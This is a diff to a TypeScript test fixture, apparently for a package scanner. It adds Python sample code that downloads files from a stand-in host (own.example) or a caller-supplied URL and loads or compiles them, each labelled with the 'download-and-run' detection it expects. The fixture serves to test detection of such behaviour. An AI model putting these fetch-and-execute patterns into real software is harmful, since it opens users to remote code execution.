@@ -7,6 +7,20 @@ const HEAD =
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: a function that loads what an address of its own gives',
+      files: wheel(
+        "import os, sys, tempfile, requests\ndef add(name):\n    path = os.path.join(tempfile.gettempdir(), name + '.py')\n    with open(path, 'wb') as file:\n        file.write(requests.get('https://own.example/' + name).content)\n    sys.path.insert(0, path)\n",
+      ),
+      expected: [at('download-and-run', 'high', 'own/__init__.py', 6)],
+    },
+    {
+      name: 'Python: the same from where who calls it says, which tells less',
+      files: wheel(
+        "import os, sys, tempfile, requests\ndef add(url, name):\n    path = os.path.join(tempfile.gettempdir(), name + '.py')\n    with open(path, 'wb') as file:\n        file.write(requests.get(url).content)\n    sys.path.insert(0, path)\n",
+      ),
+      expected: [at('download-and-run', 'medium', 'own/__init__.py', 6)],
+    },
+    {
       name: 'words of a list, put together by another module and run by a worker',
       files: imported(
         `const { Worker } = require('worker_threads');\nconst list = require('./list.js');\nclass Pool {\n  constructor({ boot = list.marked().join(' ') } = {}) { this.boot = boot; }\n  warm() { new Worker(this.boot, { eval: true }); }\n}\nnew Pool().warm();\n`,
@@ -300,6 +314,12 @@ export const samples: Samples = {
       'Python: an extension that is fetched and handed to pip when somebody asks',
       wheel(
         "import subprocess, sys, requests\ndef add(url, place):\n    with open(place, 'wb') as file:\n        file.write(requests.get(url).content)\n    subprocess.check_output([sys.executable, '-m', 'pip', 'install', place])\n",
+      ),
+    ),
+    quiet(
+      'Python: a schema that is fetched and made into code',
+      wheel(
+        "import os, subprocess, tempfile, requests\ndef make():\n    path = os.path.join(tempfile.gettempdir(), 'model.fbs')\n    with open(path, 'wb') as file:\n        file.write(requests.get('https://own.example/model.fbs').content)\n    subprocess.call(['flatc', '-p', path])\nmake()\n",
       ),
     ),
     quiet(
